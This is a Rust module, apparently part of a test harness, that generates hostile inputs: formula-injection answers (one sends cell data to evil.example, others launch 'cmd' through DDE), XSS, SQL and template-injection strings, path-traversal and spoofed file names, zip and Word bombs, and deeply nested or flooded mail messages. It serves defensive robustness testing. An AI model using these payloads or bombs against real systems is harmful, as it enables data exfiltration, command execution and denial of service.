//! What is made to do harm: bombs, floods, nests, names that are paths, answers that are formulas or markup. All of it is
//! small as it stands, and harmless to whoever only counts its bytes.

use std::io::Result;

use super::encode::base64_lines;
use super::foreign::{WORD, zipped};
use super::part::{ANY, Part};
use crate::forge::random::Dice;

/// What is found where an answer should stand.
pub(super) const ANSWERS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "<script>alert(document.title)</script>",
    "<img src=x onerror=alert(1)> and \"><svg onload=alert(1)>",
    "'; DROP TABLE records; --",
    "{{7*7}} ${7*7} %s%s%n javascript:alert(1)",
];

/// Names that would be paths, if anybody took them for such.
pub(super) const NAMES: [&str; 7] = [
    "../../../../tmp/rapporteur-escaped",
    "..\\..\\..\\Windows\\rapporteur-escaped",
    "/tmp/rapporteur-escaped",
    "C:\\rapporteur-escaped",
    "records/../../rapporteur-escaped",
    "con",
    "a\u{202e}fdp\u{202c}",
];

/// A file that is a bomb: so many million bytes of nothing, of which each hundredth says something where `mixed`.
pub(super) fn bomb(name: &str, millions: usize, mixed: bool, dice: &mut Dice) -> Result<Part> {
    let inner = nothing(millions, mixed, dice);
    let bytes = zipped([("answers.txt", inner.as_slice())])?;
    Ok(Part::new(format!("{name}.zip"), "zip bomb", "application/zip", bytes).becomes(ANY))
}

/// An archive of archives of archives: forty thousand million bytes in the end.
pub(super) fn nested_bomb(dice: &mut Dice) -> Result<Part> {
    let mut inner = zipped([("0.txt", nothing(4, false, dice).as_slice())])?;
    for level in 0..4 {
        let names: Vec<String> = (0..10).map(|number| format!("{level}-{number}.zip")).collect();
        inner = zipped(names.iter().map(|name| (name.as_str(), inner.as_slice())))?;
    }
    Ok(Part::new("documents.zip", "nested zip bomb", "application/zip", inner).becomes(ANY))
}

/// A Word file whose text is a bomb.
pub(super) fn word_bomb(dice: &mut Dice) -> Result<Part> {
    let head = "<?xml version=\"1.0\"?><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>";
    let paragraph = "<w:p><w:r><w:t>a</w:t></w:r></w:p>".repeat(400_000);
    let text = format!("{head}{paragraph}<w:p><w:r><w:t>{}</w:t></w:r></w:p></w:body></w:document>", dice.below(1000));
    let types = "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
        <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
        <Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
    let relations = "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">\
        <Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\" \
        Target=\"word/document.xml\"/></Relationships>";
    let parts = [("[Content_Types].xml", types), ("_rels/.rels", relations), ("word/document.xml", &text)];
    let bytes = zipped(parts.map(|(name, text)| (name, text.as_bytes())))?;
    Ok(Part::new("form.docx", "Word bomb", WORD, bytes).becomes(ANY))
}

fn nothing(millions: usize, mixed: bool, dice: &mut Dice) -> Vec<u8> {
    let mut bytes = vec![b' '; millions * 1_000_000];
    // No two are alike.
    let marks = if mixed { bytes.len() / 125 } else { 8 };
    for byte in bytes.iter_mut().take(marks) {
        *byte = u8::try_from(dice.below(256)).unwrap_or(0);
    }
    bytes
}

/// A mail within a mail, a thousand deep.
pub(super) fn nest(dice: &mut Dice) -> Part {
    const DEEP: usize = 1000;
    let mut text = String::new();
    let number = dice.below(1 << 30);
    for level in 0..DEEP {
        text.push_str(&format!(
            "From: a@example.org\r\nTo: b@example.org\r\nSubject: {level}\r\nMessage-ID: <{level}.{number}@example.org>\r\n\
             Date: Mon, 02 Mar 2020 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: message/rfc822\r\n\r\n"
        ));
    }
    text.push_str("From: a@example.org\r\nSubject: last\r\n\r\nThe end.\r\n");
    Part::new("nested.eml", "mail nested 1,000 deep", "message/rfc822", text.into_bytes()).becomes(ANY)
}

/// Parts within parts, a thousand deep.
pub(super) fn nested_parts(dice: &mut Dice) -> Part {
    const DEEP: usize = 1000;
    let number = dice.below(1 << 30);
    let mut text = "From: a@example.org\r\nSubject: parts\r\nMIME-Version: 1.0\r\n".to_owned();
    for level in 0..DEEP {
        let kind =
            format!("Content-Type: multipart/mixed; boundary=\"{number}-{level}\"\r\n\r\n--{number}-{level}\r\n");
        text.push_str(&kind);
    }
    text.push_str("Content-Type: text/plain\r\n\r\nThe end.\r\n");
    (0..DEEP).rev().for_each(|level| text.push_str(&format!("\r\n--{number}-{level}--\r\n")));
    Part::new("parts.eml", "parts nested 1,000 deep", "message/rfc822", text.into_bytes()).becomes(ANY)
}

/// A mail with more lines of header than anybody sends, one of them a million bytes long.
pub(super) fn flood(dice: &mut Dice) -> Part {
    let mut text = "From: a@example.org\r\nSubject: ".to_owned();
    text.push_str(&"x".repeat(1_000_000));
    (0..5000).for_each(|line| text.push_str(&format!("\r\nX-Line-{line}: {}", dice.below(1 << 30))));
    text.push_str("\r\n\r\nThe end.\r\n");
    Part::new("flood.eml", "flood of header lines", "message/rfc822", text.into_bytes()).becomes(ANY)
}

/// A mail with two thousand files of a few bytes.
pub(super) fn crowd(dice: &mut Dice) -> Part {
    let number = dice.below(1 << 30);
    let mut text = format!(
        "From: a@example.org\r\nSubject: crowd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"c{number}\"\r\n\r\n"
    );
    for file in 0..2000 {
        text.push_str(&format!(
            "--c{number}\r\nContent-Type: application/octet-stream; name=\"{file}.bin\"\r\nContent-Transfer-Encoding: \
             base64\r\nContent-Disposition: attachment; filename=\"{file}.bin\"\r\n\r\n{}\r\n",
            base64_lines(format!("{file} of {number}").as_bytes())
        ));
    }
    text.push_str(&format!("--c{number}--\r\n"));
    Part::new("crowd.eml", "mail with 2,000 files", "message/rfc822", text.into_bytes()).becomes(ANY)
}

/// An archive with twenty thousand empty files.
pub(super) fn many(dice: &mut Dice) -> Result<Part> {
    let number = dice.below(1 << 30);
    let names: Vec<String> = (0..20_000).map(|file| format!("{number}/{file}.txt")).collect();
    let bytes = zipped(names.iter().map(|name| (name.as_str(), &b""[..])))?;
    Ok(Part::new("many.zip", "archive of 20,000 files", "application/zip", bytes).becomes(ANY))
}
